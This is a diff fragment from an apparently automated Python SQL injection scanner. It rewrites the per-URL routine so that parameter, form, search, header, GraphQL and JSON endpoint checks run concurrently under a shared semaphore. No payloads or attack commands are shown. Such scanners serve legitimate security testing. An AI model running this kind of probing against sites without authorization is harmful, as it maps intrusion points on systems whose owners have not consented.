-                search_url = f"{url}{'&' if '?' in url else '?'}{param}=test"
-                search_vulns = await self._check_url_parameters(search_url, semaphore)
-                vulnerabilities.extend(search_vulns)
-                if search_vulns:
-                    break  # Found vulnerability, no need to test more search params
-            
-            # Test the URL for header-based SQL injection
-            header_vulns = await self._check_headers(url, semaphore)
-            vulnerabilities.extend(header_vulns)
+            # The individual checks are independent of each other, so run them
+            # concurrently; the shared semaphore still bounds in-flight requests
+            checks = [
+                # Test the URL for parameter-based SQL injection
+                self._check_url_parameters(url, semaphore),
+                # Probe parameter names the endpoint may accept but not advertise
+                self._probe_common_params(url, semaphore),
+                # Test the URL for form-based SQL injection with enhanced form detection
+                self._check_forms(url, semaphore),
+                # Test common search form query parameter variations
+                self._probe_search_params(url, semaphore),
+                # Test the URL for header-based SQL injection
+                self._check_headers(url, semaphore)
+            ]
             
             # If the URL seems like a potential GraphQL endpoint, test it
-            if "graphql" in url.lower() or "query" in url.lower():
-                graphql_vulns = await self._check_graphql_endpoints(url, semaphore)
-                vulnerabilities.extend(graphql_vulns)
+            if GRAPHQL_URL_RE.search(url):
+                checks.append(self._check_graphql_endpoints(url, semaphore))
             
             # If the URL seems like a potential JSON API, test it
-            if "api" in url.lower() or "json" in url.lower() or "rest" in url.lower():
-                json_vulns = await self._check_json_endpoints(url, semaphore)
-                vulnerabilities.extend(json_vulns)
+            if JSON_API_URL_RE.search(url):
+                checks.append(self._check_json_endpoints(url, semaphore))
+            
+            for result in await asyncio.gather(*checks, return_exceptions=True):
+                if isinstance(result, Exception):
+                    logger.error(f"Error processing URL {url}: {str(result)}")
+                elif result:
+                    vulnerabilities.extend(result)
                 
         except Exception as e:
             logger.error(f"Error processing URL {url}: {str(e)}")